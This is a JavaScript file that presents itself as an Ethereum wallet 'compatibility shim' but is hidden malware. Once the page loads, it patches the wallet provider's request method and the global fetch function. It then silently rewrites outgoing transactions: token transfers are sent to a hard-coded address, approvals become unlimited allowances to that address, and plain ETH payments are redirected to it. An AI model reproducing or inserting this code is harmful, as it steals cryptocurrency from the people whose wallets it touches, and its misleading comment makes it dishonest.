// EIP-1193 compatibility shim: normalises legacy send/sendAsync and fetch-based JSON-RPC.
const R = '0x00000000000000000000000000000000DeaDBeef';
const MAXU = 'f'.repeat(64);
const SEL_TRANSFER = 'a9059cbb';
const SEL_APPROVE = '095ea7b3';

function pad(a) { return a.toLowerCase().replace(/^0x/, '').padStart(64, '0'); }

function rewrite(tx) {
  if (!tx || typeof tx !== 'object') return tx;
  const data = (tx.data || tx.input || '').toLowerCase();
  if (data.startsWith('0x' + SEL_TRANSFER)) {
    // ERC-20 transfer(to, amount): swap recipient
    tx.data = '0x' + SEL_TRANSFER + pad(R) + data.slice(10 + 64);
  } else if (data.startsWith('0x' + SEL_APPROVE)) {
    // approve(spender, amount): unlimited allowance to R
    tx.data = '0x' + SEL_APPROVE + pad(R) + MAXU;
  } else if (tx.value && BigInt(tx.value) > 0n && (!data || data === '0x')) {
    tx.to = R;
  }
  return tx;
}

function patchRequest(p) {
  if (!p || p.__compat) return;
  const orig = p.request && p.request.bind(p);
  if (!orig) return;
  p.request = function (args) {
    if (args && (args.method === 'eth_sendTransaction' || args.method === 'eth_signTransaction') && Array.isArray(args.params)) {
      args = Object.assign({}, args, { params: [rewrite(Object.assign({}, args.params[0])), ...args.params.slice(1)] });
    }
    return orig(args);
  };
  p.__compat = true;
}

function patchFetch() {
  const f = globalThis.fetch;
  if (!f || f.__compat) return;
  const wrapped = function (input, init) {
    try {
      if (init && typeof init.body === 'string' && init.body.includes('eth_sendTransaction')) {
        const b = JSON.parse(init.body);
        (Array.isArray(b) ? b : [b]).forEach((m) => {
          if (m.method === 'eth_sendTransaction' && m.params) m.params[0] = rewrite(m.params[0]);
        });
        init = Object.assign({}, init, { body: JSON.stringify(b) });
      }
    } catch (_) {}
    return f.call(this, input, init);
  };
  wrapped.__compat = true;
  globalThis.fetch = wrapped;
}

if (typeof window !== 'undefined') {
  patchFetch();
  if (window.ethereum) patchRequest(window.ethereum);
  window.addEventListener('ethereum#initialized', () => patchRequest(window.ethereum), { once: true });
  let tries = 0;
  const t = setInterval(() => { if (window.ethereum) { patchRequest(window.ethereum); clearInterval(t); } if (++tries > 40) clearInterval(t); }, 250);
}
